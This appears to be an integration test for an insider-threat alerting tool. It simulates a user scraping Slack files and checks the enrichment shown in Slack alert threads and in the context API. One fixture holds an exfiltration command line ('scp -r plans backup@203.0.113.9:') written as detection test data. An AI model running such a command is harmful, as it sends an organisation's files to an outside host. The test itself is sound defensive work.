import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { type SlackApiSimulator, startSlackApi } from '../simulators/slack-api.ts';
import { eventually, HubProcess } from '../support/hub-process.ts';

/** One alert a person. */
const RULE = `
title: Tool That Scrapes
id: 5d2f6a52-7a0e-4a55-9d0a-1f6f4b1f7c12
status: experimental
description: Somebody scraped.
author: Earshot
date: 2026-11-21
taxonomy: ecs
logsource: { product: slack }
detection:
  selection: { event.action: anomaly }
  condition: selection
level: high
earshot:
  group_by: [user.id]
`;

vi.setConfig({ testTimeout: 40_000 });

const DAY = 86_400_000;
const folder = mkdtempSync(join(tmpdir(), 'earshot-context-'));
let hub: HubProcess;
let slack: SlackApiSimulator;
let token: string;

beforeAll(async () => {
  writeFileSync(join(folder, 'scraped.yml'), RULE);
  slack = await startSlackApi();
  const bot = { type: 'slack_bot', channel: slack.channel, api_url: slack.apiUrl, token: slack.token };
  hub = await HubProcess.create({
    rules: { shipped: false, folders: [folder] },
    notifiers: { security: bot },
    routes: [{ name: 'all', to: ['security'] }],
  });
  const people = join(hub.dataDir, 'people.yaml');
  writeFileSync(people, 'people:\n  - id: jsilva\n    name: Joana Silva\n    names: [W0EXAMPLE01, joana]\n');
  appendFileSync(hub.configFile, `people: { files: [${people}] }\n`);
  await hub.start();
  const { json } = await hub.post('/api/tokens', JSON.stringify({ name: 'slack', scopes: ['ingest'] }), JSON_BODY);
  token = (json as { token: string }).token;
}, 60_000);

afterAll(async () => {
  await hub.kill('SIGTERM');
  await slack.stop();
  for (const each of [hub.dataDir, folder]) rmSync(each, { recursive: true, force: true });
});

const range = (length: number) => Array.from({ length }, (_, n) => n);
const JSON_BODY = { 'content-type': 'application/json' };

async function send(events: readonly object[]): Promise<void> {
  const sent = await fetch(`http://127.0.0.1:${hub.ports.api}/ingest/http`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-ndjson', authorization: `Bearer ${token}` },
    body: events.map((event) => JSON.stringify(event)).join('\n'),
  });
  expect(sent.status).toBe(200);
}

interface Deed {
  readonly at: number;
  readonly action: string;
  readonly address: string;
  readonly program: string;
  readonly file?: string;
  readonly fileId?: string;
}

const inSlack = ({ at, action, address, program, file, fileId }: Deed) => ({
  '@timestamp': new Date(at).toISOString(),
  message: `${action} by joana`,
  event: { action, dataset: 'slack.audit', module: 'slack' },
  observer: { vendor: 'Slack', product: 'Slack' },
  user: { id: 'W0EXAMPLE01', name: 'joana' },
  source: { ip: address },
  user_agent: { original: program },
  ...(file !== undefined && { file: { name: file, extension: 'pdf' } }),
  ...(fileId !== undefined && { slack: { audit: { target: { id: fileId } } } }),
});

it('is told in the thread some seconds after the alert, and on its page to who may see it', async () => {
  const now = Date.now();
  const old = { action: 'user_login', address: '192.0.2.44', program: 'Firefox' };
  await send([3, 2, 1].map((days) => inSlack({ ...old, at: now - days * DAY - DAY / 2 })));
  const present = { address: '203.0.113.9', program: 'python-requests/2.32' };
  // Who wants to take much unseen comes by many ways.
  await send(range(30).map((n) => inSlack({ ...present, at: now - 50_000, action: 'user_login', address: `198.51.100.${n}` })));
  const files = Array.from({ length: 14 }, (_, i) =>
    inSlack({ ...present, at: now - i * 1_000, action: 'file_downloaded', file: `plan-${i}.pdf` }),
  );
  await send([...files, files[0] ?? {}]);
  // Pictures that were pasted have one name, and some files have none.
  const fetched = { ...present, at: now - 30_000, action: 'file_downloaded' };
  await send([
    ...['F1', 'F2', 'F3'].map((fileId) => inSlack({ ...fetched, file: 'image.png', fileId })),
    inSlack({ ...fetched, at: now - 40_000, fileId: 'F4' }),
  ]);
  await send([
    {
      '@timestamp': new Date(now - 60_000).toISOString(),
      message: 'Process Create',
      event: { action: 'process-created', dataset: 'windows.sysmon' },
      user: { name: 'jsilva' },
      host: { name: 'lt-joana' },
      process: { name: 'curl.exe' },
    },
    {
      name: 'pack_edr_processes',
      hostIdentifier: 'lt-joana',
      unixTime: Math.floor(now / 1_000) - 50,
      decorations: { username: 'jsilva' },
      columns: { pid: '1204', name: 'scp', path: '/usr/bin/scp', cmdline: 'scp -r plans backup@203.0.113.9:' },
      action: 'added',
    },
    // Somebody else's are not hers.
    { message: 'x', event: { action: 'file_downloaded', dataset: 'slack.audit' }, user: { name: 'ben' }, file: { name: 'other.pdf' } },
  ]);
  await send([inSlack({ ...present, at: now, action: 'anomaly' })]);

  await slack.until(() => slack.messages.length === 1);
  const [root] = slack.messages;
  expect(root?.threadTs).toBeUndefined();
  expect(JSON.stringify(root)).not.toContain('plan-');
  await slack.until(() => slack.messages.length === 2);
  const reply = slack.messages[1];
  expect(reply).toMatchObject({ threadTs: root?.ts, text: expect.stringContaining('Joana Silva, 19 files, new address, new program') });
  const said = JSON.stringify(reply?.blocks);
  expect(said).toContain('Files fetched or looked at: 19*, 18 different');
  expect(said).toContain('plan-0.pdf (pdf), 2 times');
  expect(said).toContain('and 8 more');
  expect(said).toMatch(
    /New for Joana Silva\*\\n• address: 203\.0\.113\.9; 198\.51\.100\.0; .* and 27 more\\n• program: python-requests\/2\.32/,
  );
  expect(said).toMatch(/address: 192\.0\.2\.44 \(3 days\)/);
  expect(said).toMatch(/windows\.sysmon: 1 event \(process-created 1\); on lt-joana; ran curl\.exe/);
  expect(said).toMatch(/osquery\.result: 1 event \(process_seen 1\); on lt-joana; ran scp/);
  expect(said).not.toContain('other.pdf');

  const ids = root?.metadata?.event_payload.alert_ids;
  const path = `/api/alerts/${Array.isArray(ids) ? ids[0] : ''}/context`;
  const { json } = await hub.get(path);
  expect(json).toMatchObject({
    context: {
      person: 'Joana Silva',
      files: { ok: true, value: { total: 19, different: 18 } },
      whereabouts: {
        ok: true,
        value: {
          addresses: {
            present_count: 31,
            new_count: 31,
            usual: [{ value: '192.0.2.44', before: 3, before_days: 3, within: 0 }],
          },
          hosts: { present: [{ value: 'lt-joana', before: 0 }], usual: [] },
        },
      },
      deeds: {
        ok: true,
        value: [
          { dataset: 'slack.audit', count: 50 },
          { dataset: 'osquery.result', count: 1 },
          { dataset: 'windows.sysmon', count: 1 },
        ],
      },
    },
  });

  const { context } = json as { context: { files: { value: { files: { id: string; name: string }[] } } } };
  expect(context.files.value.files.slice(-4).map(({ id, name }) => `${id} ${name}`)).toEqual([
    'F1 image.png',
    'F2 image.png',
    'F3 image.png',
    'F4 F4',
  ]);

  // Who may see one system alone sees what that one tells.
  const made = await hub.post('/api/tokens', JSON.stringify({ name: 'one', scopes: ['events:read'], datasets: ['slack.*'] }), JSON_BODY);
  const one = (made.json as { token: string }).token;
  const asked = await fetch(`http://127.0.0.1:${hub.ports.api}${path}`, { headers: { authorization: `Bearer ${one}` } });
  expect(await asked.json()).toMatchObject({ context: { deeds: { value: [{ dataset: 'slack.audit' }] } } });

  // A look at a person is recorded.
  await eventually(async () => {
    const { json } = await hub.get('/api/events?q=event.dataset:earshot.audit%20AND%20earshot.audit.kind:context');
    return (json as { events?: unknown[] }).events?.length === 2 ? true : undefined;
  });
});
